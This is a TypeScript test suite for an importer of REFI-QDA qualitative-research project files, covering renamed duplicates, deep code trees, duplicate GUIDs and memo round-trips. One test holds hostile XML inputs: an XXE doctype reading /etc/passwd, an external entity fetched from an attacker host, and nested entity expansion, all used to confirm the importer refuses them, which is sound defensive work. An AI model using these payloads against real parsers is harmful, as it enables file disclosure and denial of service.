import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { StaffwellError } from '../../src/errors.ts';
import { openProject } from '../../src/qual/project.ts';
import { exportSnapshot } from '../../src/qual/project-snapshot.ts';
import { exportQdc, exportQdpx, importQdc, importQdpx } from '../../src/refi/index.ts';
import { runQualCli } from '../qual/run-qual-cli.ts';
import { validateAgainst } from '../refi/validate-xsd.ts';

const NS = 'urn:QDA-XML:project:1.0';
const G = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
const dir = mkdtempSync(join(tmpdir(), 'staffwell-refi-hostile-'));
process.on('exit', () => rmSync(dir, { recursive: true, force: true }));
let fileNo = 0;

function qdpx(qde: string, files: Record<string, string> = {}): Uint8Array {
  const entries: Record<string, Uint8Array> = { 'project.qde': strToU8(qde) };
  for (const [k, v] of Object.entries(files)) entries[k] = strToU8(v);
  return zipSync(entries);
}
function project(body: string, attrs = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<Project xmlns="${NS}" name="hostile" origin="Test"${attrs}>\n${body}\n</Project>`;
}
/** Imports through the CLI into a new project: exit code, output, and the project path. */
async function cliImport(bytes: Uint8Array): Promise<{ code: number; stdout: string; stderr: string; path: string }> {
  const n = ++fileNo;
  const file = join(dir, `in-${n}.qdpx`);
  writeFileSync(file, bytes);
  const path = join(dir, `p-${n}.qual.sqlite`);
  const r = await runQualCli(['import-qdpx', file, path]); // throws (a test failure) on an internal error
  return { ...r, path };
}
function rejects(f: () => unknown, re: RegExp): StaffwellError {
  let caught: unknown;
  try {
    f();
  } catch (e) {
    caught = e;
  }
  assert.ok(caught instanceof StaffwellError, `a StaffwellError, not ${String(caught)}`);
  assert.match(caught.message, re);
  return caught;
}

const USERS = `<Users><User guid="${G(1)}" name="Ann"/></Users>`;
const sel = (guid: number, s: number, e: number, code: number, coding: number, extra = '') =>
  `<PlainTextSelection guid="${G(guid)}" startPosition="${s}" endPosition="${e}" creatingUser="${G(1)}">${extra}<Coding guid="${G(coding)}" creatingUser="${G(1)}"><CodeRef targetGUID="${G(code)}"/></Coding></PlainTextSelection>`;

test('schema-valid oddities import (with warnings) instead of failing: repeated names, empty selections, dangling case references', async () => {
  const xml = project(`${USERS}
  <CodeBook><Codes>
    <Code guid="${G(10)}" name="Stress" isCodable="true"><Code guid="${G(11)}" name="Noise" isCodable="true"/><Code guid="${G(12)}" name="Noise" isCodable="true"/></Code>
    <Code guid="${G(13)}" name="Stress" isCodable="true"/>
  </Codes></CodeBook>
  <Variables><Variable guid="${G(20)}" name="Age" typeOfVariable="Integer"/><Variable guid="${G(21)}" name="Age" typeOfVariable="Text"/></Variables>
  <Cases><Case guid="${G(30)}" name="Nurse, ward 3"><VariableValue><VariableRef targetGUID="${G(20)}"/><IntegerValue>41</IntegerValue></VariableValue><SourceRef targetGUID="${G(40)}"/><SourceRef targetGUID="${G(99)}"/></Case></Cases>
  <Sources>
    <TextSource guid="${G(40)}" name="Interview"><PlainTextContent>It is loud all night.</PlainTextContent>${sel(50, 6, 11, 11, 51)}${sel(52, 3, 3, 12, 53, '<Description>a point, not a span</Description>')}</TextSource>
    <TextSource guid="${G(41)}" name="Interview"><PlainTextContent>Quiet days.</PlainTextContent>${sel(54, 0, 5, 13, 55)}</TextSource>
  </Sources>`);
  const { snapshot, warnings } = importQdpx(qdpx(xml));
  assert.deepEqual(snapshot.documents.map((d) => d.name), ['Interview', 'Interview (2)']);
  assert.deepEqual(snapshot.codes.map((c) => c.name), ['Stress', 'Noise', 'Noise (2)', 'Stress (2)']);
  assert.deepEqual(snapshot.variables.map((v) => v.name), ['Age', 'Age (2)']);
  assert.equal(snapshot.segments.length, 2, 'the empty selection is not a segment');
  assert.deepEqual(snapshot.participants[0].documentIds, [G(40)]);
  const kinds = warnings.map((w) => w.kind).sort();
  assert.deepEqual(kinds, ['empty-selection', 'renamed', 'renamed', 'renamed', 'renamed', 'unresolved-reference']);
  assert.match(warnings.find((w) => w.kind === 'unresolved-reference')!.message, new RegExp(`Case "Nurse, ward 3" refers to source "${G(99)}", which is not in the file`));
  assert.ok(snapshot.memos.some((m) => m.text === 'a point, not a span' && m.target.kind === 'document'), 'the empty selection\'s description is kept on its source');
  // and the whole way into a project from the CLI
  const r = await cliImport(qdpx(xml));
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /2 documents, 4 codes, 2 segments/);
  assert.match(r.stdout, /warning: two sources are named "Interview"; the second is imported as "Interview \(2\)"/);
});

test('a code tree thousands of levels deep: imported, exported, imported again (iterative walks; never exit 70)', async () => {
  const depth = 3000;
  let codes = '';
  for (let i = 0; i < depth; i++) codes += `<Code guid="${G(1000 + i)}" name="level ${i}" isCodable="true">`;
  codes += '</Code>'.repeat(depth);
  const xml = project(`${USERS}<CodeBook><Codes>${codes}</Codes></CodeBook>
  <Sources><TextSource guid="${G(40)}" name="Doc"><PlainTextContent>deep text</PlainTextContent>${sel(50, 0, 4, 1000 + depth - 1, 51)}</TextSource></Sources>`);
  const first = importQdpx(qdpx(xml)).snapshot;
  assert.equal(first.codes.length, depth);
  assert.equal(first.codes[depth - 1].parentId, G(1000 + depth - 2));
  const again = importQdpx(exportQdpx(first)).snapshot;
  assert.equal(again.codes.length, depth);
  assert.equal(again.segments[0].text, 'deep');
  assert.equal(importQdc(exportQdc(first)).length, depth);
  const r = await cliImport(qdpx(xml));
  assert.equal(r.code, 0, r.stderr);
  const p = openProject(r.path);
  try {
    const snap = await exportSnapshot(p.store);
    assert.equal(importQdpx(exportQdpx(snap)).snapshot.codes.length, depth, 'Staffwell reads what it writes');
  } finally {
    p.close();
  }
  const listed = await runQualCli(['codes', r.path]);
  assert.equal(listed.code, 0);
  assert.equal(listed.stdout.trim().split('\n').length, depth);
});

test('a GUID used twice, by two elements of one kind or of two kinds, is an error naming the GUID and both elements', async () => {
  const cases: Array<[string, string, RegExp]> = [
    ['two Cases', `<Cases><Case guid="${G(30)}" name="P01"/><Case guid="${G(30)}" name="P02"/></Cases>`, /Case "P01" and Case "P02"/],
    ['a Case and a Code', `<CodeBook><Codes><Code guid="${G(30)}" name="Stress" isCodable="true"/></Codes></CodeBook><Cases><Case guid="${G(30)}" name="P01"/></Cases>`, /Code "Stress" and Case "P01"/],
    ['two Users', `<Users><User guid="${G(1)}" name="Ann"/><User guid="${G(1)}" name="Bo"/></Users>`, /User "Ann" and User "Bo"/],
    ['two Variables', `<Variables><Variable guid="${G(20)}" name="Age" typeOfVariable="Integer"/><Variable guid="${G(20)}" name="Band" typeOfVariable="Text"/></Variables>`, /Variable "Age" and Variable "Band"/],
    ['two Notes', `<Notes><Note guid="${G(60)}" name="a"><PlainTextContent>x</PlainTextContent></Note><Note guid="${G(60)}" name="b"><PlainTextContent>y</PlainTextContent></Note></Notes>`, /Note "a" and Note "b"/],
    ['two Codings', `${USERS}<CodeBook><Codes><Code guid="${G(10)}" name="C" isCodable="true"/></Codes></CodeBook><Sources><TextSource guid="${G(40)}" name="Doc"><PlainTextContent>hello world</PlainTextContent>${sel(50, 0, 5, 10, 51)}${sel(52, 6, 11, 10, 51)}</TextSource></Sources>`, /Coding guid "[^"]+" in TextSource "Doc" and Coding guid/],
    ['a selection and a source', `${USERS}<CodeBook><Codes><Code guid="${G(10)}" name="C" isCodable="true"/></Codes></CodeBook><Sources><TextSource guid="${G(40)}" name="Doc"><PlainTextContent>hello</PlainTextContent>${sel(40, 0, 5, 10, 51)}</TextSource></Sources>`, /TextSource "Doc" and PlainTextSelection/],
    ['a Set and a Note', `<Notes><Note guid="${G(60)}" name="memo"><PlainTextContent>x</PlainTextContent></Note></Notes><Sets><Set guid="${G(60)}" name="Group"/></Sets>`, /Note "memo" and Set "Group"/],
  ];
  for (const [what, body, re] of cases) {
    const e = rejects(() => importQdpx(qdpx(project(body))), re);
    assert.match(e.message, /GUID "[0-9a-f-]{36}" is used by two elements/, what);
    const r = await cliImport(qdpx(project(body)));
    assert.equal(r.code, 1, what);
    assert.match(r.stderr, /is used by two elements/, what);
  }
});

test('entity declarations (DTD, external and parameter entities) are refused with a clear message and exit 1', async () => {
  const bodies = [
    `<!DOCTYPE Project [<!ENTITY who "Ann">]>\n<Project xmlns="${NS}" name="&who;"/>`,
    `<!DOCTYPE Project SYSTEM "file:///etc/passwd">\n<Project xmlns="${NS}" name="x"/>`,
    `<!DOCTYPE Project [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>\n<Project xmlns="${NS}" name="x"/>`,
    `<!DOCTYPE Project [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<Project xmlns="${NS}" name="&b;"/>`,
  ];
  for (const b of bodies) {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>\n${b}`;
    rejects(() => importQdpx(qdpx(xml)), /project\.qde, line 2: not well-formed XML at character 1: a document type declaration .*which Staffwell does not read\. REFI-QDA files need no DTD/);
    const r = await cliImport(qdpx(xml));
    assert.equal(r.code, 1);
    assert.match(r.stderr, /document type declaration/);
  }
  // an entity used without any declaration
  rejects(() => importQdpx(qdpx(project('<Description>caf&eacute;</Description>'))), /the entity &eacute; is not defined/);
  // a bare <!DOCTYPE Project> declares nothing and is read
  assert.equal(importQdpx(qdpx(`<?xml version="1.0"?><!DOCTYPE Project><Project xmlns="${NS}" name="ok"/>`)).snapshot.name, 'ok');
});

test('coding memos travel: a selection Description is a segment memo (author = the coder) and is exported the same way', async () => {
  const xml = project(`<Users><User guid="${G(1)}" name="Ann"/><User guid="${G(2)}" name="Idle Ida"/></Users>
  <CodeBook><Codes><Code guid="${G(10)}" name="Noise" isCodable="true"/></Codes></CodeBook>
  <Sources><TextSource guid="${G(40)}" name="Doc"><PlainTextContent>It is loud all night.</PlainTextContent>
    <PlainTextSelection guid="${G(50)}" name="loud bit" startPosition="6" endPosition="11" creatingUser="${G(1)}" creationDateTime="2025-03-01T10:00:00Z"><Description>Said twice, with feeling.</Description><Coding guid="${G(51)}" creatingUser="${G(1)}"><CodeRef targetGUID="${G(10)}"/></Coding></PlainTextSelection>
  </TextSource></Sources>`);
  const first = importQdpx(qdpx(xml)).snapshot;
  const memo = first.memos.find((m) => m.text === 'Said twice, with feeling.');
  assert.ok(memo, 'the Description is a memo');
  assert.deepEqual(memo.target, { kind: 'segment', id: G(51) });
  assert.equal(memo.authorId, G(1), 'its author is the coder');
  const bytes = exportQdpx(first);
  const qde = new TextDecoder().decode(unzipSync(bytes)['project.qde']);
  assert.match(qde, /<PlainTextSelection [^>]*modifyingUser="[^"]+"[^>]*>\s*<Description>Said twice, with feeling\.<\/Description>/);
  assert.doesNotMatch(qde, /<Note /, 'not also a Note');
  assert.deepEqual(await validateAgainst(qde, 'Project.xsd'), []);
  const back = importQdpx(bytes).snapshot;
  const m2 = back.memos.filter((m) => m.text === 'Said twice, with feeling.');
  assert.equal(m2.length, 1);
  assert.equal(back.users.find((u) => u.id === m2[0].authorId)?.name, 'Ann');
});

